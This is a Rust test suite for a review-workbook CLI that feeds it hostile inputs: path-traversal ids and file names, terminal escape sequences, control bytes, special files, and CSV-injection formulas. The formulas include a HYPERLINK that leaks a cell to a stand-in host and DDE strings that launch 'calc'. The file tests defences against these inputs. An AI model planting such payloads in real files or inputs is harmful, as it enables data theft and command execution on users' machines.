        "scale:\n  levels:\n    - {value: -2, label: Low}\n    - {value: -1, label: High}",
    );
    env.write("level-neg.yaml", negative_levels.as_bytes());
    env.refused_as_framework("level-neg.yaml", None, &["percent-of-max"]);
    let negative_mean = negative_levels.replace("percent-of-max", "mean");
    env.write("level-neg-mean.yaml", negative_mean.as_bytes());
    env.loads_as_framework("level-neg-mean.yaml");

    // Workbook figures: negative and huge finite numbers are kept; infinity
    // and NaN are refused where they are written.
    let wb = base_workbook();
    let ok = edit(
        &wb,
        "framework:\n",
        "evidence:\n- id: ev-1\n  title: Figures\n  kind: data\n  value: -5\n  target: 1e300\n  comparator_value: -1.7976931348623157e308\nframework:\n",
    );
    env.write("figures.yaml", ok.as_bytes());
    env.loads_as_workbook("figures.yaml");
    for (i, bad) in [".inf", "-.inf", ".nan", "1e999"].iter().enumerate() {
        let text = edit(
            &wb,
            "framework:\n",
            &format!(
                "evidence:\n- id: ev-1\n  title: Figures\n  kind: data\n  value: {bad}\nframework:\n"
            ),
        );
        let pos = at(&text, &format!("  value: {bad}"), bad);
        let name = format!("figure-{i}.yaml");
        env.write(&name, text.as_bytes());
        env.refused_as_workbook(&name, Some(pos), &["should be a number"]);
    }
}

#[test]
fn integers_beyond_64_bits_get_a_plain_message() {
    let env = Env::new();
    let cases = [
        (
            "fw-format.yaml",
            edit(BASE_FW, "format: 1", "format: 99999999999999999999999"),
        ),
        (
            "fw-title.yaml",
            edit(
                BASE_FW,
                "title: Hostile test",
                "title: 123456789012345678901234567890",
            ),
        ),
    ];
    for (name, text) in &cases {
        env.write(name, text.as_bytes());
        let new = [
            "new",
            "--framework",
            name,
            "--council",
            "A",
            "--title",
            "B",
            "--out",
            "made.yaml",
        ];
        for args in [&["validate", name][..], &new[..]] {
            let r = env.run(args);
            r.no_panic();
            let t = r.text();
            assert!(
                !t.contains("u128") && !t.contains("i128") && !t.contains("any YAML value"),
                "{}",
                r.excerpt()
            );
            assert!(!t.contains("fix the YAML syntax"), "{}", r.excerpt());
        }
    }
    let wb = edit(
        &base_workbook(),
        "  title: Hostile review",
        "  title: -123456789012345678901234567890",
    );
    env.write("wb-title.yaml", wb.as_bytes());
    let r = env.run(&["status", "wb-title.yaml"]);
    r.no_panic();
    assert!(!r.text().contains("128"), "{}", r.excerpt());
}

#[test]
fn impossible_dates_are_refused_where_they_are() {
    let env = Env::new();
    let wb = base_workbook();
    let review_dates = [
        "onsite_start: 2026-02-30",
        "onsite_start: 2026-13-01",
        "onsite_start: 0000-00-00",
        "onsite_start: next Tuesday",
        "onsite_start: 2025-02-29",
        "onsite_start: 99999-01-01",
        "onsite_start: [2026, 3, 1]",
    ];
    for (i, line) in review_dates.iter().enumerate() {
        let text = edit(
            &wb,
            "  title: Hostile review\n",
            &format!("  title: Hostile review\n  {line}\n"),
        );
        let value = line.split_once(": ").unwrap().1;
        let pos = at(&text, line, value);
        let name = format!("date-{i}.yaml");
        env.write(&name, text.as_bytes());
        env.refused_as_workbook(&name, Some(pos), &["onsite_start"]);
    }
    // The week ends before it starts.
    let text = edit(
        &wb,
        "  title: Hostile review\n",
        "  title: Hostile review\n  onsite_start: 2026-03-12\n  onsite_end: 2026-03-10\n",
    );
    let pos = at(&text, "onsite_end: 2026-03-10", "2026");
    env.write("backwards.yaml", text.as_bytes());
    env.refused_as_workbook("backwards.yaml", Some(pos), &["before it starts"]);
    // An evidence date and a change time.
    let text = edit(
        &wb,
        "framework:\n",
        "evidence:\n- id: ev-1\n  title: Audit\n  date: 2026-04-31\nframework:\n",
    );
    let pos = at(&text, "date: 2026-04-31", "2026");
    env.write("ev-date.yaml", text.as_bytes());
    env.refused_as_workbook("ev-date.yaml", Some(pos), &["not a real date"]);
    let text = edit(
        &wb,
        "  narrative: First answer\n",
        "  narrative: First answer\n  changed:\n    at: 2026-02-30T25:61:00Z\n",
    );
    let pos = at(&text, "at: 2026-02-30T25:61:00Z", "2026");
    env.write("changed.yaml", text.as_bytes());
    env.refused_as_workbook("changed.yaml", Some(pos), &["not a date and time"]);
}

// ---------------------------------------------------------------------------
// Ids and file names

#[test]
fn ids_with_slashes_dots_spaces_and_unicode_are_refused() {
    let env = Env::new();
    let fw_ids = [
        ("id: hostile-test", "id: ../evil", (3, 5), "not a slug"),
        ("id: hostile-test", "id: a/b", (3, 5), "not a slug"),
        ("id: hostile-test", "id: has space", (3, 5), "not a slug"),
        ("id: hostile-test", "id: ünïcode", (3, 5), "not a slug"),
        ("id: d1", "id: ../d1", (12, 9), "not allowed"),
        ("id: \"1\"", "id: \"1/../../x\"", (15, 13), "not allowed"),
        ("id: \"1\"", "id: \"..\"", (15, 13), "not allowed"),
        ("id: \"1\"", "id: \"with space\"", (15, 13), "not allowed"),
        ("id: \"1\"", "id: \"ünï\"", (15, 13), "not allowed"),
        ("id: \"1\"", "id: \"C:\\\\x\"", (15, 13), "not allowed"),
    ];
    for (i, (from, to, pos, words)) in fw_ids.iter().enumerate() {
        let name = format!("ids-{i}.yaml");
        env.write(&name, edit(BASE_FW, from, to).as_bytes());
        env.refused_as_framework(&name, Some(*pos), &[words]);
    }
    let wb = base_workbook();
    for (i, id) in ["../ev", "a/b", "has space", "ëv", "/etc/passwd"]
        .iter()
        .enumerate()
    {
        let text = edit(
            &wb,
            "framework:\n",
            &format!("evidence:\n- id: '{id}'\n  title: E\nframework:\n"),
        );
        let pos = at(&text, &format!("- id: '{id}'"), "'");
        let name = format!("ev-id-{i}.yaml");
        env.write(&name, text.as_bytes());
        env.refused_as_workbook(&name, Some(pos), &["not allowed"]);
    }
    // An answer to a question id the framework does not have is kept as
    // orphaned, whatever the id: it loads, and nothing is written by it.
    let text = edit(
        &wb,
        "- question: '2'\n",
        "- question: ../../../etc/passwd\n  status: draft\n  narrative: Kept\n- question: '2'\n",
    );
    env.write("orphan.yaml", text.as_bytes());
    let before = env.snapshot();
    env.run(&["validate", "orphan.yaml"])
        .ok()
        .says(&["1 orphaned"]);
    env.run(&["status", "orphan.yaml"])
        .ok()
        .says(&["../../../etc/passwd"]);
    assert_same(&before, &env.snapshot(), "validate and status");
}

/// Every file under `dir`, relative to it.
fn files_under(dir: &Path) -> Vec<PathBuf> {
    snapshot(dir)
        .into_iter()
        .filter(|(_, b)| b != b"<dir>")
        .map(|(p, _)| p)
        .collect()
}

fn is_safe_name(name: &str, ext: &str) -> bool {
    name.strip_suffix(ext).is_some_and(|stem| {
        !stem.is_empty()
            && stem.len() <= 100
            && stem
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    })
}

#[test]
fn file_names_made_from_user_text_stay_in_the_target_folder() {
    // The data folder is a folder inside the temporary one, so a name that
    // climbs out would land beside it.
    let outer = tempfile::tempdir().unwrap();
    let home = outer.path().join("home");
    fs::create_dir(&home).unwrap();
    let run = |args: &[&str]| {
        let out = support::bin::peerbook(&home, args).output().unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{args:?}: {}",
            support::bin::text(&out)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    };
    let long = "Ab/".repeat(5_000);
    let names: [(&str, &str); 7] = [
        ("../../../../outside", "../../x"),
        ("/etc/passwd", "/tmp/evil"),
        ("..", ".."),
        ("C:\\Windows\\system32", "con"),
        ("東京都", "レビュー"),
        ("\u{1b}]0;pwned\u{7}", "\u{202e}gpj.exe"),
        (&long, "title\n../../x"),
    ];
    let workbooks = home.join("workbooks");
    for (council, title) in names {
        let printed = run(&[
            "new",
            "--framework",
            "suffolk-reablement-2016",
            "--council",
            council,
            "--title",
            title,
        ]);
        let made = PathBuf::from(&printed);
        assert_eq!(made.parent(), Some(workbooks.as_path()), "{printed}");
        let name = made.file_name().unwrap().to_str().unwrap();
        assert!(is_safe_name(name, ".yaml"), "unsafe name {name:?}");
        // Exports named from the same text land beside the workbook.
        for args in [
            vec!["--format", "csv"],
            vec!["--pack", "summary", "--format", "md"],
            vec!["--pack", "self-assessment", "--format", "docx"],
        ] {
            let mut all = vec!["export", printed.as_str()];
            all.extend(args);
            all.push("--force");
            let out = PathBuf::from(run(&all));
            let out = if out.is_absolute() {
                out
            } else {
                home.join(out)
            };
            assert_eq!(out.parent(), Some(workbooks.as_path()), "{out:?}");
            let name = out.file_name().unwrap().to_str().unwrap();
            let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap();
            assert!(
                is_safe_name(name, &format!(".{ext}")),
                "unsafe name {name:?}"
            );
        }
        // The next council with the same stem must not replace it.
        fs::remove_file(&made).unwrap();
    }
    // Nothing outside the data folder, and inside it only workbooks/.
    let outside: Vec<PathBuf> = files_under(outer.path())
        .into_iter()
        .filter(|p| !p.starts_with("home/workbooks"))
        .collect();
    assert!(
        outside.is_empty(),
        "written outside the target folder: {outside:?}"
    );
}

#[test]
fn new_refuses_to_replace_a_workbook_with_the_same_derived_name() {
    let env = Env::new();
    let args = |council: &'static str| {
        vec![
            "new",
            "--framework",
            "suffolk-reablement-2016",
            "--council",
            council,
            "--title",
            "Review",
        ]
    };
    let first = env.run(&args("Ynys Môn")).ok().stdout.clone();
    let before = env.snapshot();
    // Different text, same file name.
    env.run(&args("ynys mon"))
        .refused()
        .says(&["already exists"]);
    env.run(&args("Ynys/Mon"))
        .refused()
        .says(&["already exists"]);
    assert_same(&before, &env.snapshot(), "new over an existing workbook");
    assert!(
        String::from_utf8(first)
            .unwrap()
            .contains("ynys-mon-review.yaml")
    );
}

// ---------------------------------------------------------------------------
// Terminal escapes and other control characters

/// The base framework with escape sequences in every kind of text a
/// framework carries: version, title, domain title, scale name, level and
/// band labels.
fn escapes_framework() -> String {
    let fw = edit(BASE_FW, "version: \"1\"", "version: \"1\\e[2J\"");
    let fw = edit(
        &fw,
        "title: Hostile test",
        "title: \"Hostile \\e]0;x\\a test\"",
    );
    let fw = edit(
        &fw,
        "    title: Domain one",
        "    title: \"Domain \\e[31m one\"",
    );
    let fw = edit(&fw, "label: Good", "label: \"Good\\a\"");
    edit(
        &fw,
        "scale: cqc-4",
        "scale:\n  id: \"four\\e[1m\"\n  levels:\n    - {value: 1, label: \"Low\\e[5m\"}\n    - {value: 2, label: Two}\n    - {value: 3, label: \"Three\\e[8m\"}\n    - {value: 4, label: High}",
    )
}

/// A workbook of that framework with escape sequences in every kind of
/// text `status` shows.
fn escapes_workbook() -> String {
    let wb = make_workbook(&escapes_framework());
    let wb = edit(
        &wb,
        "council: Testshire County Council",
        "council: \"\\e]0;pwned\\a Testshire \\e[2J\\ec\"",
    );
    let wb = edit(
        &wb,
        "title: Hostile review",
        "title: \"Review\\x9b31m \\u202e reversed \\x7f\"",
    );
    edit(
        &wb,
        "- question: '2'\n",
        "- question: \"gone\\e[31m\"\n  status: draft\n  narrative: \"\\e]52;c;cHduZWQ=\\a first line\\nsecond\"\n- question: '2'\n",
    )
}

/// Bytes a terminal acts on: C0 controls other than newline and tab, DEL,
/// and C1 controls (as UTF-8).
fn terminal_controls(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    text.char_indices()
        .filter(|(_, c)| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || ('\u{202a}'..='\u{202e}').contains(c)
                || ('\u{2066}'..='\u{2069}').contains(c)
        })
        .map(|(i, c)| {
            let from = text[..i].char_indices().rev().nth(20).map_or(0, |(j, _)| j);
            format!("U+{:04X} after {:?}", c as u32, &text[from..i])
        })
        .collect()
}

#[test]
fn text_with_escape_sequences_loads_and_round_trips() {
    let env = Env::new();
    let wb = escapes_workbook();
    env.write("esc.yaml", wb.as_bytes());
    let (loaded, _) = workbook::from_text("esc.yaml", wb.as_bytes()).unwrap();
    assert_eq!(
        loaded.review.council,
        "\u{1b}]0;pwned\u{7} Testshire \u{1b}[2J\u{1b}c"
    );
    env.run(&["validate", "esc.yaml"])
        .ok()
        .says(&["1 orphaned"]);
    // JSON escapes the C0 controls (ESC, BEL) as \u001b and \u0007; it
    // may carry the rest as characters, for scripts to read.
    let json = env.run(&["status", "esc.yaml", "--format", "json"]);
    json.ok();
    assert!(
        !json.stdout.iter().any(|b| *b < 0x20 && *b != b'\n'),
        "{}",
        json.excerpt()
    );
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["council"], loaded.review.council.as_str());
    // A save keeps every character exactly.
    env.run(&["import", "esc.yaml", "rows.csv"]).ok();
    let (after, _) =
        workbook::from_text("esc.yaml", &fs::read(env.path("esc.yaml")).unwrap()).unwrap();
    assert_eq!(after.review, loaded.review);
    assert_eq!(
        after.answer("gone\u{1b}[31m"),
        loaded.answer("gone\u{1b}[31m")
    );
    // The Word export is well-formed XML whatever the text holds.
    env.run(&[
        "export",
        "esc.yaml",
        "--pack",
        "self-assessment",
        "--format",
        "docx",
        "--out",
        "esc.docx",
    ])
    .ok();
}

#[test]
fn status_prints_no_raw_control_characters() {
    let env = Env::new();
    env.write("esc.yaml", escapes_workbook().as_bytes());
    let r = env.run(&["status", "esc.yaml"]);
    r.ok();
    assert_eq!(
        terminal_controls(&r.stdout),
        Vec::<String>::new(),
        "{}",
        r.excerpt()
    );
    assert_eq!(
        terminal_controls(&r.stderr),
        Vec::<String>::new(),
        "{}",
        r.excerpt()
    );
}

#[test]
fn messages_print_no_raw_control_characters() {
    let env = Env::new();
    let fw = edit(BASE_FW, "version: \"1\"", "version: \"1\\e[2J\"");
    let fw = edit(
        &fw,
        "title: Hostile test",
        "title: \"Hostile \\e]0;pwned\\a test\"",
    );
    env.write("esc-fw.yaml", fw.as_bytes());
    let mut runs = vec![
        env.run(&["validate", "esc-fw.yaml"]),
        env.run(&["frameworks", "--kloe", "esc-fw.yaml"]),
    ];
    let wb = edit(
        &base_workbook(),
        "status: draft",
        "status: \"\\e[2Jdraft\"\n  \"x\\e[31m\": 1",
    );
    env.write("esc-diag.yaml", wb.as_bytes());
    runs.push(env.run(&["validate", "esc-diag.yaml"]));
    runs.push(env.run(&["status", "esc-diag.yaml"]));
    env.write("wb.yaml", base_workbook().as_bytes());
    env.write("esc.csv", b"ref,narrative\n\"1\x1b[2J\",x\n");
    runs.push(env.run(&["import", "wb.yaml", "esc.csv"]));
    for r in &runs {
        r.no_panic();
        let mut found = terminal_controls(&r.stdout);
        found.extend(terminal_controls(&r.stderr));
        assert_eq!(found, Vec::<String>::new(), "{}", r.excerpt());
    }
}

#[test]
fn markdown_exports_carry_no_raw_control_characters() {
    let env = Env::new();
    env.write("esc.yaml", escapes_workbook().as_bytes());
    for pack in ["summary", "self-assessment"] {
        let out = format!("{pack}.md");
        env.run(&[
            "export", "esc.yaml", "--pack", pack, "--format", "md", "--out", &out,
        ])
        .ok();
        let bytes = fs::read(env.path(&out)).unwrap();
        assert_eq!(terminal_controls(&bytes), Vec::<String>::new(), "{out}");
    }
}

#[test]
fn raw_control_characters_in_a_file_are_refused_at_their_line() {
    let env = Env::new();
    for (name, byte) in [("nul.yaml", 0u8), ("esc.yaml", 0x1b), ("del.yaml", 0x7f)] {
        let mut bytes = BASE_FW.as_bytes().to_vec();
        let i = BASE_FW.find("Hostile test").unwrap() + "Hostile".len();
        bytes.insert(i, byte);
        env.write(name, &bytes);
        env.refused_as_framework(name, Some((5, 15)), &[]);
    }
}

#[test]
fn raw_control_characters_in_a_file_are_refused_without_harm() {
    // What can be asserted today: refused, named, nothing written.
    let env = Env::new();
    for (name, byte) in [("nul.yaml", 0u8), ("esc.yaml", 0x1b), ("bel.yaml", 0x07)] {
        let mut bytes = base_workbook().into_bytes();
        let i = bytes.windows(9).position(|w| w == b"Testshire").unwrap();
        bytes.insert(i, byte);
        env.write(name, &bytes);
        env.refused_as_workbook(name, None, &["control characters"]);
    }
}

// ---------------------------------------------------------------------------
// Empty and near-empty files

#[test]
fn empty_and_near_empty_files_are_refused() {
    let env = Env::new();
    let cases: [(&str, &[u8], &str); 9] = [
        ("zero.yaml", b"", "empty"),
        ("blank.yaml", b"\n\n   \n", "empty"),
        ("comments.yaml", b"# nothing here\n# at all\n", "empty"),
        ("bom.yaml", b"\xef\xbb\xbf", "empty"),
        ("dashes.yaml", b"---\n", "empty"),
        ("null.yaml", b"~\n", "empty"),
        ("list.yaml", b"[]\n", "found a list"),
        ("string.yaml", b"\"just text\"\n", "found text"),
        ("number.yaml", b"42\n", "found a number"),
    ];
    for (name, bytes, words) in cases {
        env.write(name, bytes);
        env.refused_as_framework(name, None, &[words]);
        env.refused_as_workbook(name, None, &[words]);
    }
    // Two documents in one file.
    env.write("two.yaml", format!("{BASE_FW}---\n{BASE_FW}").as_bytes());
    env.refused_as_framework("two.yaml", None, &[]);
    // A missing file, and a folder given as a file.
    let before = env.snapshot();
    env.run(&["status", "missing.yaml"])
        .refused()
        .says(&["missing.yaml"]);
    env.run(&["import", "missing.yaml", "rows.csv"])
        .refused()
        .says(&["missing.yaml"]);
    fs::create_dir(env.path("folder.yaml")).unwrap();
    let before_dir = env.snapshot();
    env.run(&["status", "folder.yaml"])
        .refused()
        .says(&["folder.yaml"]);
    env.run(&["validate", "folder.yaml"])
        .refused()
        .says(&["folder.yaml"]);
    env.run(&["import", "folder.yaml", "rows.csv"])
        .refused()
        .says(&["folder.yaml"]);
    assert_same(&before_dir, &env.snapshot(), "commands on a folder");
    fs::remove_dir(env.path("folder.yaml")).unwrap();
    assert_same(&before, &env.snapshot(), "commands on a missing file");
}

// ---------------------------------------------------------------------------
// The embedded framework

#[test]
fn a_workbook_whose_embedded_framework_disagrees_with_its_digest_is_refused() {
    let env = Env::new();
    let wb = base_workbook();
    let digest_pos = at(&wb, "  digest: sha256:", "sha256");
    let edits = [
        ("    title: Hostile test", "    title: Friendly test"),
        (
            "        text: Second question",
            "        text: Second question, edited",
        ),
        ("    scale: cqc-4", "    scale: rag"),
    ];
    for (i, (from, to)) in edits.iter().enumerate() {
        let name = format!("edited-{i}.yaml");
        env.write(&name, edit(&wb, from, to).as_bytes());
        env.refused_as_workbook(&name, Some(digest_pos), &["digest"]);
    }
    // The digest itself edited.
    let d = wb.find("sha256:").unwrap() + "sha256:".len();
    let mut forged = wb.clone();
    forged.replace_range(d..d + 4, "0000");
    env.write("forged.yaml", forged.as_bytes());
    env.refused_as_workbook("forged.yaml", Some(digest_pos), &["digest"]);
    // A digest that is not one at all, and one missing.
    let start = wb.find("  digest: ").unwrap();
    let end = start + wb[start..].find('\n').unwrap() + 1;
    let mut junk = wb.clone();
    junk.replace_range(start..end, "  digest: [1, 2]\n");
    env.write("junk-digest.yaml", junk.as_bytes());
    env.refused_as_workbook("junk-digest.yaml", None, &[]);
    let mut missing = wb.clone();
    missing.replace_range(start..end, "");
    env.write("no-digest.yaml", missing.as_bytes());
    env.refused_as_workbook("no-digest.yaml", None, &["digest"]);
    // The name outside the content disagrees with the content.
    let renamed = edit(
        &wb,
        "  id: hostile-test\n  version:",
        "  id: other-test\n  version:",
    );
    let pos = at(&renamed, "  id: other-test", "other-test");
    env.write("renamed.yaml", renamed.as_bytes());
    env.refused_as_workbook("renamed.yaml", Some(pos), &["hostile-test@1"]);
}

// ---------------------------------------------------------------------------
// Hostile CSV files for import

#[test]
fn hostile_csv_files_are_refused_without_changing_the_workbook() {
    let env = Env::new();
    env.write("wb.yaml", base_workbook().as_bytes());
    let cases: [(&str, &[u8], &str); 9] = [
        ("latin1.csv", b"ref,narrative\n1,caf\xe9\n", "UTF-8"),
        ("empty.csv", b"", "ref"),
        ("no-ref.csv", b"domain,narrative\nD,x\n", "no 'ref' column"),
        (
            "unknown.csv",
            b"ref,narrative\n../../etc/passwd,x\n",
            "no question with ref",
        ),
        ("rating.csv", b"ref,rating\n1,9\n", "not on the scale"),
        (
            "huge.csv",
            b"ref,rating\n1,99999999999999999999999999\n",
            "not on the scale",
        ),
        ("negative.csv", b"ref,rating\n1,-1\n", "not on the scale"),
        (
            "twice.csv",
            b"ref,narrative\n1,a\n1,b\n",
            "already appears in row 2",
        ),
        (
            "status.csv",
            b"ref,status\n1,finished\n",
            "status 'finished'",
        ),
    ];
    for (name, bytes, words) in cases {
        env.write(name, bytes);
        let before = env.snapshot();
        env.run(&["import", "wb.yaml", name])
            .refused()
            .says(&[name, words]);
        assert_same(&before, &env.snapshot(), name);
    }
    // A 5 MB cell is imported (or refused) in bounded time.
    let mut big = String::from("ref,narrative\n1,\"");
    while big.len() < 5 * 1024 * 1024 {
        big.push_str("lorem ipsum dolor sit amet ");
    }
    big.push_str("\"\n");
    env.write("big.csv", big.as_bytes());
    env.run(&["import", "wb.yaml", "big.csv"]).no_panic();
}

#[test]
fn a_csv_quote_that_is_never_closed_is_refused() {
    let env = Env::new();
    env.write("wb.yaml", base_workbook().as_bytes());
    env.write("quote.csv", b"ref,narrative\n1,\"oops\n2,second row\n");
    let before = env.snapshot();
    env.run(&["import", "wb.yaml", "quote.csv"])
        .refused()
        .says(&["quote.csv", "row 2"]);
    assert_same(&before, &env.snapshot(), "import");
}

/// Text that a spreadsheet runs as a formula when it opens a CSV (OWASP's
/// "CSV injection"): each starts with `=`, `+`, `-`, `@` or a tab, and the
/// last is the escape itself.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click for the report\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=starts with a quote already",
];

/// The cells of a CSV made by peerbook (after its byte-order mark).
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::Reader::from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_cells_that_would_run_as_formulas_are_quoted_and_come_back_exactly() {
    let env = Env::new();
    let (fw, diags) = framework::load_text(
        "base.yaml",
        BASE_FW.as_bytes(),
        Origin::File("base.yaml".into()),
    );
    let fw = fw.unwrap_or_else(|| panic!("{diags}"));
    let mut wb = Workbook::new(fw, "Testshire County Council", "Hostile review");
    let a = wb.answer_mut("1");
    a.status = Status::Draft;
    a.narrative = FORMULAS[0].into();
    a.strengths = vec![FORMULAS[1].into()];
    a.areas = vec![FORMULAS[2].into()];
    a.owner = Some(FORMULAS[3].into());
    let a = wb.answer_mut("2");
    a.status = Status::Draft;
    a.narrative = FORMULAS[4].into();
    a.owner = Some(FORMULAS[5].into());
    wb.findings
        .recommendations
        .push(peerbook::workbook::onsite::Recommendation {
            text: FORMULAS[0].into(),
            owner: Some(FORMULAS[3].into()),
            progress: Some(FORMULAS[2].into()),
            ..Default::default()
        });
    env.write("wb.yaml", workbook::to_text(&wb).as_bytes());

    env.run(&[
        "export",
        "wb.yaml",
        "--format",
        "csv",
        "--out",
        "answers.csv",
    ])
    .ok();
    let answers = csv_cells(&fs::read(env.path("answers.csv")).unwrap());
    env.run(&[
        "export",
        "wb.yaml",
        "--pack",
        "action-plan",
        "--format",
        "csv",
        "--out",
        "plan.csv",
    ])
    .ok();
    let plan = csv_cells(&fs::read(env.path("plan.csv")).unwrap());
    for cell in answers.iter().chain(&plan).flatten() {
        assert!(
            !runs_as_formula(cell),
            "a cell a spreadsheet runs: {cell:?}"
        );
    }
    // Each is the text with a leading ' (columns: rating 3, owner 5,
    // narrative 6, strengths 7, areas 8; the plan's text 1, owner 3,
    // progress 6).
    let quoted = |t: &str| format!("'{t}");
    assert_eq!(answers[0][6], quoted(FORMULAS[0]));
    assert_eq!(answers[0][7], quoted(FORMULAS[1]));
    assert_eq!(answers[0][8], quoted(FORMULAS[2]));
    assert_eq!(answers[0][5], quoted(FORMULAS[3]));
    assert_eq!(answers[1][6], quoted(FORMULAS[4]));
    assert_eq!(answers[1][5], quoted(FORMULAS[5]));
    assert_eq!(plan[0][1], quoted(FORMULAS[0]));
    assert_eq!(plan[0][3], quoted(FORMULAS[3]));
    assert_eq!(plan[0][6], quoted(FORMULAS[2]));

    // Brought back, every text is as it was typed: nothing changes.
    let before = env.snapshot();
    env.run(&["import", "wb.yaml", "answers.csv"])
        .ok()
        .says(&["No changes"]);
    assert_same(&before, &env.snapshot(), "import of the exported CSV");
}

// ---------------------------------------------------------------------------
// Output closed early

#[test]
fn a_closed_stdout_is_not_a_panic() {
    let env = Env::new();
    env.write("wb.yaml", base_workbook().as_bytes());
    for args in [
        vec!["status", "wb.yaml"],
        vec!["status", "wb.yaml", "--format", "json"],
        vec!["validate", "wb.yaml"],
        vec!["frameworks"],
    ] {
        let mut child = env
            .cmd(&args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Close our end before the program writes anything.
        drop(child.stdout.take());
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        let status = child.wait().unwrap();
        assert_ne!(status.code(), Some(101), "{args:?}: {err}");
        assert!(!err.contains("panicked"), "{args:?}: {err}");
    }
}

// ---------------------------------------------------------------------------
// Special files and files too large to read

/// `Keymap::load` of `path`, given `QUICK` to finish: what it reported.
fn keymap_problems(path: &Path) -> Vec<String> {
    let path = path.to_path_buf();
    let (tx, rx) = std::sync::mpsc::channel();
    thread::spawn(move || {
        let _ = tx.send(peerbook::tui::keys::Keymap::load(&path).1);
    });
    rx.recv_timeout(QUICK)
        .expect("reading keys.yaml hung (a special file?)")
}

/// Every way a file is read, given `path` where that file should be: each
/// is refused within `QUICK` with `words` in the message, and nothing in
/// the folder changes.
fn refused_everywhere(env: &Env, path: &str, words: &[&str]) {
    env.write("wb.yaml", base_workbook().as_bytes());
    let before = env.snapshot();
    let runs: Vec<Vec<&str>> = vec![
        vec!["validate", path],
        vec!["status", path],
        vec!["export", path, "--format", "csv", "--out", "out.csv"],
        vec!["import", path, "rows.csv"],
        vec!["import", "wb.yaml", path],
        vec![
            "upgrade",
            path,
            "--framework",
            "suffolk-reablement-2016@2016",
        ],
    ];
    for args in runs {
        env.run_within(&args, QUICK).refused().says(words);
    }
    // As a framework named with --kloe: listed as one that did not load.
    let r = env.run_within(&["frameworks", "--kloe", path], QUICK);
    r.no_panic();
    r.says(&["did not load", "cbo-standards@2015"]).says(words);
    assert_same(&before, &env.snapshot(), path);
    let problems = keymap_problems(Path::new(path));
    assert!(
        problems.iter().any(|p| words.iter().all(|w| p.contains(w))),
        "keys.yaml: {problems:?}"
    );
}

#[test]
fn a_fifo_is_refused_at_once() {
    let env = Env::new();
    // Outside the folder that is compared before and after: reading the
    // pipe to compare it would hang the test itself.
    let elsewhere = tempfile::tempdir().unwrap();
    let fifo = elsewhere.path().join("pipe.yaml");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success(), "mkfifo failed");
    refused_everywhere(
        &env,
        fifo.to_str().unwrap(),
        &["pipe.yaml", "named pipe", "not a regular file"],
    );
}

#[test]
fn dev_zero_is_refused_at_once() {
    let env = Env::new();
    refused_everywhere(
        &env,
        "/dev/zero",
        &["/dev/zero", "device", "not a regular file"],
    );
}

#[test]
fn a_file_larger_than_the_cap_is_refused_by_its_size_before_it_is_read() {
    let env = Env::new();
    let elsewhere = tempfile::tempdir().unwrap();
    // Sparse: 100 MiB long, no disk used.
    let big = elsewhere.path().join("big.yaml");
    fs::File::create(&big)
        .unwrap()
        .set_len(100 * 1024 * 1024)
        .unwrap();
    refused_everywhere(
        &env,
        big.to_str().unwrap(),
        &["big.yaml", "100 MiB", "64 MiB"],
    );
}
